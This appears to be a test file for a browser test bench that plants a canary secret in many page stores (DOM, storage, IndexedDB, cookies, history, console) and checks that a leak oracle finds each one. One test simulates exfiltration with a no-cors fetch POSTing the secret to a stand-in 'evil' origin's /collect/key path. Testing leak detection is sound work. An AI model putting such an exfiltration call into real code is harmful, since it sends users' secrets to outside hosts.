import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Bench } from '../bench.js';
import { spellings } from '../oracles/collect.js';
import { runningWorld } from '../running.js';
import { eachEngine } from './support/each-engine.js';

const SECRET = 'canary-0b7d/é"';

/** Each leaves the secret somewhere in the page, and where the oracle has to find it. */
const LEAKS: Readonly<Record<string, readonly [(secret: string) => unknown, RegExp]>> = {
  text: [(secret) => document.body.append(secret), /document: text in <body>/],
  'a comment': [(secret) => document.body.append(document.createComment(secret)), /text in <body>/],
  'an attribute in a nested shadow root': [
    (secret) => {
      const outer = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'open' });
      const inner = outer.appendChild(document.createElement('p')).attachShadow({ mode: 'open' });
      inner.appendChild(document.createElement('i')).title = secret;
    },
    /<i> attribute title/,
  ],
  'a template': [
    (secret) => document.body.appendChild(document.createElement('template')).content.append(secret),
    /template: text/,
  ],
  'the value of a field': [
    (secret) => (document.body.appendChild(document.createElement('input')).value = secret),
    /<input> value/,
  ],
  'a property of an element': [
    (secret) => {
      const element = document.body.appendChild(document.createElement('x-element'));
      Object.assign(element, { draft: { values: [secret] } });
    },
    /<x-element> property draft property values property 0/,
  ],
  localStorage: [(secret) => localStorage.setItem('kept', secret), /localStorage: kept/],
  'a key of sessionStorage': [(secret) => sessionStorage.setItem(secret, ''), /sessionStorage: /],
  IndexedDB: [
    (secret) =>
      new Promise((resolve) => {
        const request = indexedDB.open('database');
        request.onupgradeneeded = () => request.result.createObjectStore('store').put({ secret }, 1);
        request.onsuccess = () => resolve(request.result.close());
      }),
    /indexedDB: database\/store/,
  ],
  'a cache': [
    async (secret) => (await caches.open('cache')).put('/entry', new Response(secret)),
    /cache: cache/,
  ],
  'a former address': [
    (secret) => {
      history.pushState(null, '', `?key=${encodeURIComponent(secret)}`);
      history.replaceState(null, '', '?');
    },
    /address/,
  ],
  'history.state': [(secret) => history.replaceState({ secret }, ''), /history\.state/],
  'the title': [(secret) => (document.title = secret), /title/],
  'window.name': [(secret) => (window.name = secret), /window\.name/],
  'a cookie': [(secret) => (document.cookie = `draft=${encodeURIComponent(secret)}`), /cookie/],
  'the console': [(secret) => console.error({ deep: { secret } }), /console or error/],
  'the detail of an event': [
    (secret) => document.dispatchEvent(new CustomEvent('datasource-x', { detail: { list: [secret] } })),
    /event/,
  ],
  'an entry of the performance timeline': [(secret) => void performance.mark(secret), /performance entries/],
  'a window that was opened': [(secret) => window.open(`/?${secret}`), /window\.open/],
  Base64: [
    (secret) => localStorage.setItem('encoded', btoa(`key=${encodeURIComponent(secret)}`)),
    /: encoded/,
  ],
};

for (const [name, [leak, place]] of Object.entries(LEAKS))
  eachEngine(`a secret is found in ${name}`, async (engine) => {
    const bench = new Bench(engine, await runningWorld());
    bench.secret(name === 'Base64' ? encodeURIComponent(SECRET) : SECRET);
    const tab = await bench.open('blank', { bundles: 0 });
    bench.allow({ problems: [/console: error/] });
    await bench.assertQuiet();
    await tab.evaluate(leak, SECRET);
    await assert.rejects(bench.assertQuiet(), new RegExp(`secret in .*${place.source}`));
  });

eachEngine('a secret is found in what servers were asked for, not in what they were sent', async (engine) => {
  const bench = new Bench(engine, await runningWorld());
  const secret = bench.secret();
  const tab = await bench.open('blank', { bundles: 0 });
  const ask = async (url: string, body: string) => void (await fetch(url, { method: 'POST', body }));
  await tab.evaluate(ask, '/console/api/anything', secret);
  await bench.assertQuiet();
  await tab.evaluate(ask, `/console/api/anything?key=${secret}`, '');
  bench.allow({ secrets: [/performance entries/] });
  await assert.rejects(bench.assertQuiet(), /POST \/console\/api\/anything\?key=/);
});

eachEngine('a secret is found in whatever others were sent', async (engine) => {
  const world = await runningWorld();
  const bench = new Bench(engine, world);
  const secret = bench.secret();
  const tab = await bench.open('blank', { bundles: 0 });
  await tab.evaluate(
    async (url, body) => void (await fetch(url, { method: 'POST', mode: 'no-cors', body })),
    `${world.evil.origin}/collect/key`,
    secret,
  );
  await assert.rejects(bench.assertQuiet(), /POST \/collect\/key/);
});

test('the spellings of a secret are found whatever stands around it', () => {
  for (const before of ['', 'a', 'ab', 'abc'])
    for (const after of ['', 'x', 'xy']) {
      const encoded = Buffer.from(`${before}${SECRET}${after}`).toString('base64');
      assert.ok(
        spellings(SECRET).some((text) => encoded.includes(text)),
        `${before}…${after}`,
      );
    }
});
